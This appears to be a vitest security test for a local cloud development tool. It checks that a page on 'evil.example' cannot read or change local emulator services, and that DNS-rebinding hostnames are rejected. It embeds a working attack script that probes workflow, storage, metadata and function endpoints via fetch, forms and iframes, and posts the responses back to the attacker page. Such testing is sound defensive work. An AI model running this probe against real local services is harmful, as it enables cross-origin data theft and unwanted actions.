/** A real browser on this machine, with a page of somebody else open, against a running local cloud. */
import { execFile } from 'node:child_process';
import { once } from 'node:events';
import { existsSync, mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { promisify } from 'node:util';
import { afterEach, beforeEach, expect, test } from 'vitest';
import { type ShopProject, shopProject } from './shop-project.ts';
import { type DaymillProcess, startDaymill } from './start-daymill.ts';

const CHROMIUM = ['/usr/bin/chromium', '/usr/bin/chromium-browser', '/usr/bin/google-chrome'].find((path) =>
  existsSync(path),
);

const SOURCE = JSON.stringify({ sourceContents: 'main:\n  steps:\n    - answer:\n        return: 1\n' });

interface Session {
  readonly env: Readonly<Record<string, string>>;
  readonly functions: Readonly<Record<string, string>>;
}

let project: ShopProject;
let dev: DaymillProcess;
let page: Server;
let profile: string;
let session: Session;
/** What the page is, and what it was asked for. */
let html = '';
const told: string[] = [];

beforeEach(async () => {
  project = shopProject();
  dev = startDaymill(project, ['dev']);
  await dev.printed(/Watching\./);
  session = JSON.parse(readFileSync(join(project.home, 'local-cloud.json'), 'utf8')) as Session;
  page = createServer((request, response) => {
    if (request.method === 'POST') request.setEncoding('utf8').on('data', (text: string) => void told.push(text));
    response.setHeader('content-type', 'text/html').end(html);
  });
  await once(page.listen(0, '127.0.0.1'), 'listening');
  profile = mkdtempSync(join(tmpdir(), 'daymill-browser-'));
});
afterEach(async () => {
  dev.child.kill('SIGINT');
  await dev.ended;
  page.close();
  project.remove();
  rmSync(profile, { recursive: true, force: true, maxRetries: 10 });
  told.length = 0;
});

/** Opens the address until the page is at rest, with every name that there is leading here; answers what is shown then. */
async function open(url: string): Promise<string> {
  const options = ['--headless', '--no-sandbox', '--disable-gpu', `--user-data-dir=${profile}`, '--dump-dom'];
  const here = '--host-resolver-rules=MAP *.example 127.0.0.1';
  const shown = await promisify(execFile)(
    CHROMIUM ?? '',
    [...options, here, '--disable-features=LocalNetworkAccessChecks', '--virtual-time-budget=20000', url],
    { maxBuffer: 10_000_000 },
  );
  return shown.stdout;
}

test.skipIf(CHROMIUM === undefined)(
  'a page of another origin reads nothing, starts nothing and changes nothing (needs chromium)',
  { timeout: 180_000 },
  async () => {
    const { env, functions } = session;
    const workflows = `http://${env['WORKFLOWS_EMULATOR_HOST']}/v1/projects/daymill-local/locations/local/workflows`;
    const before = await (await fetch(workflows)).json();
    const state = `http://${env['FIRESTORE_EMULATOR_HOST']}/google.firestore.v1.Firestore/ListCollectionIds`;
    const targets = [
      `${workflows}?workflowId=stranger`,
      `${workflows}/pipeline/executions`,
      `${env['STORAGE_EMULATOR_HOST']}/storage/v1/b?project=daymill-local`,
      `http://${env['GCE_METADATA_HOST']}/computeMetadata/v1/project/project-id`,
      `http://${env['SCHEDULER_EMULATOR_HOST']}/v1/projects/daymill-local/locations/local/jobs`,
      `http://${env['PUBSUB_EMULATOR_HOST']}/google.pubsub.v1.Publisher/ListTopics`,
      state,
      // Also with the word that it cannot know.
      ...Object.values(functions),
    ];
    const attack = `
      const tell = (what) => fetch('/', { method: 'POST', body: JSON.stringify(what) + '\\n' });
      for (const url of ${JSON.stringify(targets)}) {
        for (const mode of ['cors', 'no-cors'])
          for (const [method, body, type] of [['GET'], ['POST', ${JSON.stringify(SOURCE)}, 'text/plain'], ['POST', '{"date":"2024-01-04"}', 'application/json']])
            try {
              const answer = await fetch(url, { method, mode, body, headers: type && mode === 'cors' ? { 'content-type': type } : {} });
              await tell({ url, method, type: answer.type, text: await answer.text() });
            } catch (error) { await tell({ url, method, refused: String(error) }); }
        new Image().src = url;
        document.body.append(Object.assign(document.createElement('iframe'), { name: 'f', src: url }));
        const form = Object.assign(document.createElement('form'), { action: url, method: 'POST', target: 'f', enctype: 'text/plain' });
        document.body.append(form); form.submit();
      }
      await tell('done');`;
    html = `<!doctype html><body><script type="module">${attack}</script></body>`;
    await open(`http://evil.example:${(page.address() as AddressInfo).port}/`);
    const heard = told
      .join('')
      .trim()
      .split('\n')
      .map((line): unknown => JSON.parse(line));
    expect(heard.at(-1)).toBe('done');
    // Its requests came as far as browsers let them; nothing is readable: refused, or opaque and empty.
    expect(heard).toContainEqual(expect.objectContaining({ type: 'opaque' }));
    for (const each of heard.slice(0, -1) as { readonly text?: string; readonly type?: string }[])
      expect(each.text ?? '').toBe('');
    expect(await (await fetch(workflows)).json()).toEqual(before);
    expect(await (await fetch(`${workflows}/pipeline/executions`)).json()).toEqual({ executions: [] });
    expect(
      await (await fetch(`${env['STORAGE_EMULATOR_HOST']}/storage/v1/b?project=daymill-local`)).json(),
    ).toMatchObject({ items: [] });
  },
);

test.skipIf(CHROMIUM === undefined)(
  'a name that was made to lead here is not answered, and a person’s own look is (needs chromium)',
  { timeout: 180_000 },
  async () => {
    const [, port] = (session.env['WORKFLOWS_EMULATOR_HOST'] ?? '').split(':');
    const path = '/v1/projects/daymill-local/locations/local/workflows';
    expect(await open(`http://rebound.example:${port}${path}`)).toContain('by no other name');
    expect(await open(`http://127.0.0.1:${port}${path}`)).toContain('workflows');
    for (const url of Object.values(session.functions))
      expect(await open(url.replace('127.0.0.1', 'rebound.example'))).toContain('by no other name');
  },
);
